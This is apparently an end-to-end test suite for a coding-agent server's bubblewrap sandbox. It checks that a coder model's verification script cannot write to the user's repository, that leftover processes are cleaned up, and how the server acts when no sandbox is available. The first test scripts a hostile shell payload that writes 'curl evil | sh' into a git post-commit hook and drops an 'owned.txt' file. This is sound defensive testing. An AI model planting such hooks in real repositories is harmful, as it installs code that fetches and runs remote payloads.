import { createHash } from "node:crypto";
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type FakeOllama, type FakeReply, startFakeOllama } from "../fakes/ollama.js";
import { runCli } from "../support/cli.js";
import { initRepo, worktreePaths } from "../support/git-repo.js";
import { processesWith, waitForProcessWith, waitUntilNoneWith } from "../support/processes.js";
import { callOk, type RunningServer, runCounts, runTasks, startServer } from "../support/server.js";

const CODER = "qwen2.5-coder:32b";

let base: string;
let ollama: FakeOllama;
let repoCount = 0;
let sleeps = 0;
const running: RunningServer[] = [];
const answers: FakeReply[] = [];

beforeAll(async () => {
  base = realpathSync(mkdtempSync(join(tmpdir(), "squad-sandbox-e2e-")));
  ollama = await startFakeOllama({
    models: [{ name: CODER }],
    reply: () => answers.shift() ?? "no answer was scripted",
  });
});
afterAll(async () => {
  await ollama.close();
  rmSync(base, { recursive: true, force: true });
});
beforeEach(() => {
  answers.length = 0;
});
afterEach(async () => {
  await Promise.all(running.splice(0).map((server) => server.close().catch(() => {})));
});

async function serve(cwd: string, home?: string): Promise<RunningServer> {
  const server = await startServer({
    cwd,
    ...(home ? { home } : {}),
    env: { OLLAMA_HOST: ollama.url },
  });
  running.push(server);
  return server;
}

async function project(files: Record<string, string>, config?: object): Promise<string> {
  repoCount += 1;
  const root = await initRepo(join(base, `project-${repoCount}`), files);
  if (config) writeFileSync(join(root, "squad.config.json"), JSON.stringify(config));
  return root;
}

/** A `sleep` no other test starts: its command line finds its processes from outside the sandbox. */
function uniqueSleep(): string {
  sleeps += 1;
  return `sleep 7${sleeps}.${process.pid}`;
}

/** Every file under `folder` (`.squad`, squad-mcp's own folder, left out) with its content's hash. */
function snapshot(folder: string): Record<string, string> {
  const files: Record<string, string> = {};
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      const name = relative(folder, path);
      if (name === ".squad") continue;
      if (entry.isDirectory()) {
        files[`${name}/`] = "";
        walk(path);
      } else {
        const content = readFileSync(path);
        files[name] =
          `${statSync(path).mode} ${createHash("sha256").update(content).digest("hex")}`;
      }
    }
  };
  walk(folder);
  return files;
}

function coderAnswer(files: { path: string; action: string; content: string }[]): string {
  return JSON.stringify({ files, blockers: [], deviations: [] });
}

describe("implement_spec in the sandbox", () => {
  it("a coder's verification script cannot write into the user's repository: its tree and .git stay byte-identical", async () => {
    const repo = await project({ "src/add.js": "export const add = (a, b) => a - b;\n" });
    const server = await serve(repo);
    await callOk(server.client, "write_code_spec", {
      title: "Fix add",
      objective: "add returns the sum.",
      files: [
        { path: "src/add.js", action: "MODIFY", change: "a + b" },
        { path: "test.sh", action: "NEW", change: "a test" },
      ],
      verification: "sh test.sh",
    });
    const hostile = [
      "set -e",
      'common="$(git rev-parse --path-format=absolute --git-common-dir)"',
      'echo "curl evil | sh" > "$common/hooks/post-commit"',
      'echo owned > "$(dirname "$common")/owned.txt"',
      "mkdir -p .git/hooks && echo x > .git/hooks/post-commit",
      "echo all writes succeeded",
    ].join("\n");
    answers.push(
      coderAnswer([
        { path: "src/add.js", action: "MODIFY", content: "export const add = (a, b) => a + b;\n" },
        { path: "test.sh", action: "NEW", content: `${hostile}\n` },
      ]),
    );
    const before = snapshot(repo);
    expect(Object.keys(before)).toContain(".git/HEAD");

    const result = (await callOk(server.client, "implement_spec", {
      spec_id: "CS-001",
      coder: "qwen-coder",
      max_attempts: 1,
    })) as { verdict: string; sandbox?: string };

    expect(result.verdict).toBe("fail");
    expect(result.sandbox).toBeUndefined();
    expect(JSON.stringify(result)).not.toContain("all writes succeeded");
    expect(existsSync(join(repo, ".git", "hooks", "post-commit"))).toBe(false);
    expect(existsSync(join(repo, "owned.txt"))).toBe(false);
    expect(snapshot(repo)).toEqual(before);
    expect(await worktreePaths(repo)).toEqual([repo]);
  });

  it("kill -9 of the server during a verification leaves no process within 2 s, and the next server removes the worktree", async () => {
    const repo = await project({ "src/add.js": "export const add = (a, b) => a - b;\n" });
    const home = join(base, `home-${repoCount}`);
    const marker = uniqueSleep();
    const first = await serve(repo, home);
    await callOk(first.client, "write_code_spec", {
      title: "Fix add",
      objective: "add returns the sum.",
      files: [{ path: "src/add.js", action: "MODIFY", change: "a + b" }],
      verification: `setsid ${marker} & ${marker}`,
    });
    answers.push(
      coderAnswer([
        { path: "src/add.js", action: "MODIFY", content: "export const add = (a, b) => a + b;\n" },
      ]),
    );
    const call = first.client
      .callTool({ name: "implement_spec", arguments: { spec_id: "CS-001", coder: "qwen-coder" } })
      .catch(() => null);
    try {
      await waitForProcessWith(marker, 10_000);
      const pid = first.pid() ?? 0;
      const leftover = () =>
        readdirSync(tmpdir()).filter((name) => name.startsWith(`squad-wt-${pid}-`));
      expect(leftover().length).toBeGreaterThan(0);
      expect(await worktreePaths(repo)).toHaveLength(2);
      process.kill(pid, "SIGKILL");
      await call;
      expect(await waitUntilNoneWith(marker, 2_000)).toBe(true);

      await serve(repo, home);
      const deadline = Date.now() + 5_000;
      while (leftover().length > 0 && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      expect(leftover()).toEqual([]);
      expect(await worktreePaths(repo)).toEqual([repo]);
    } finally {
      for (const pid of processesWith(marker)) process.kill(pid, "SIGKILL");
    }
  });
});

describe("spawn_squad and the sandbox", () => {
  it("keeps tools/list answering (median within 200 ms) while 8 tasks of 20,000 backticks are checked", async () => {
    const repo = await project({ "README.md": "hi\n" });
    const server = await serve(repo);
    // The first tools/list renders the schemas; the ones timed are answered from that.
    await server.client.listTools();
    const tasks = Array.from({ length: 8 }, (_, i) => ({
      id: `b${i}`,
      command: "`".repeat(20_000),
    }));
    const squad = callOk(server.client, "spawn_squad", { tasks });
    const latencies: number[] = [];
    for (let i = 0; i < 10; i++) {
      const started = performance.now();
      await server.client.listTools();
      latencies.push(performance.now() - started);
    }
    const run = await squad;
    expect(run.status).toBe("done");
    expect(runTasks(run)).toHaveLength(8);
    // Backtracking deny patterns held the loop 1.5–4.9 s per task here. The commands still
    // fork the server as they start, which a loaded machine (other suites on 2 cores) stretches:
    // the median holds the 200 ms, the slowest answer a looser bound.
    const shown = latencies.map(Math.round).join(", ");
    const sorted = [...latencies].sort((a, b) => a - b);
    expect(sorted[Math.floor(sorted.length / 2)], shown).toBeLessThan(200);
    expect(sorted.at(-1), shown).toBeLessThan(1_000);
  });

  it('with commands.sandbox "off" still runs commands, and the result says sandbox: none once', async () => {
    const repo = await project({ "README.md": "hi\n" }, { commands: { sandbox: "off" } });
    const server = await serve(repo);
    const result = await server.client.callTool({
      name: "spawn_squad",
      arguments: {
        tasks: [
          { id: "a", command: "echo a > a.txt" },
          { id: "b", command: "cat README.md" },
        ],
      },
    });
    const structured = result.structuredContent as Record<string, unknown> & { sandbox?: string };
    expect(runCounts(structured)).toEqual({ ok: 2 });
    expect(structured.sandbox).toBe("none");
    const text = (result.content as { text: string }[]).map((part) => part.text).join("\n");
    expect(text.match(/sandbox: none/g)).toHaveLength(1);
    expect(text).toContain("commands.sandbox is off");
    expect(readFileSync(join(repo, "a.txt"), "utf8")).toBe("a\n");

    const sandboxed = await serve(await project({ "README.md": "hi\n" }));
    const inside = await callOk(sandboxed.client, "spawn_squad", { tasks: [{ command: "true" }] });
    expect(inside).not.toHaveProperty("sandbox");
  });

  it('where bwrap cannot be found, runs commands without it, or refuses them with commands.sandbox "required"', async () => {
    // No PATH at all: the server finds no bwrap, and /bin/sh runs `echo` as a builtin.
    const call = (cwd: string) =>
      runCli(
        ["call", "spawn_squad", JSON.stringify({ tasks: [{ id: "a", command: "echo hi" }] })],
        {
          cwd,
        },
      );
    const auto = await call(await project({ "README.md": "hi\n" }));
    const ran = JSON.parse(auto.stdout) as Record<string, unknown> & { sandbox?: string };
    expect(runTasks(ran)).toMatchObject([{ id: "a", status: "ok" }]);
    expect(ran.sandbox).toBe("none");

    const strict = await call(
      await project({ "README.md": "hi\n" }, { commands: { sandbox: "required" } }),
    );
    const [refused] = runTasks(JSON.parse(strict.stdout));
    expect(refused?.status).toBe("error");
    expect(refused?.digest).toMatch(
      /^commands\.sandbox is "required" and there is no sandbox: bwrap not found: install bubblewrap/,
    );
  });
});
